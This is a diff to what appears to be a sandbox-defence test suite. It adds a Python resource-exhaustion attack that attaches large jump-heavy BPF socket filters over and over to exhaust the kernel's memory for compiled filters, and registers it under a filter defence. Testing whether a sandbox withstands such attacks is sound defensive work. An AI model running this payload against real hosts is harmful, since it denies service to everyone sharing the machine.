@@ -188,6 +188,35 @@ while True:
         pass
 """
 
+# Memory into which the kernel compiles filters: the machine has one pool of it. Each program jumps far and often, and
+# becomes 140 KiB.
+FILTERS = """
+import os, socket, struct, time
+jumps = [struct.pack("HBBI", 0x45, 255, 255, 0xFFFFFF)] * 3800
+rest = [struct.pack("HBBI", 0x04, 0, 0, 1)] * 295 + [struct.pack("HBBI", 0x06, 0, 0, 0)]
+program = b"".join(jumps + rest)
+
+def address(content):
+    import ctypes
+    kept.append(ctypes.create_string_buffer(content, len(content)))
+    return ctypes.addressof(kept[-1])
+
+kept, sockets = [], []
+try:
+    for _ in range(32):
+        sockets.append(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))
+        sockets[-1].setsockopt(1, 26, struct.pack("HxxxxxxQ", 4096, address(program)))
+    print("BREACH", len(sockets), "filters", flush=True)
+except OSError as cause:
+    print("HELD", cause, flush=True)
+while True:
+    for own in sockets:
+        try:
+            own.setsockopt(1, 26, struct.pack("HxxxxxxQ", 4096, address(program)))
+        except OSError:
+            time.sleep(0.001)
+"""
+
 FLOODED = 16 * MIB  # many times what waits in pipes and sockets while nobody reads
 FLOOD = f"""
 import os, time
@@ -278,6 +307,7 @@ ATTACKS = (
         limits=CROWDED,
     ),
     _attack("cpu-hog", CPU_HOG, Defence.CPU_LIMIT, SLOW),
+    _attack("memory-of-compiled-filters", FILTERS, Defence.FILTER),
     _attack("disk-filler", DISK_FILLER, Defence.DISK_QUOTA),
     _attack("inode-filler", INODE_FILLER, Defence.DISK_QUOTA),
     Attack(
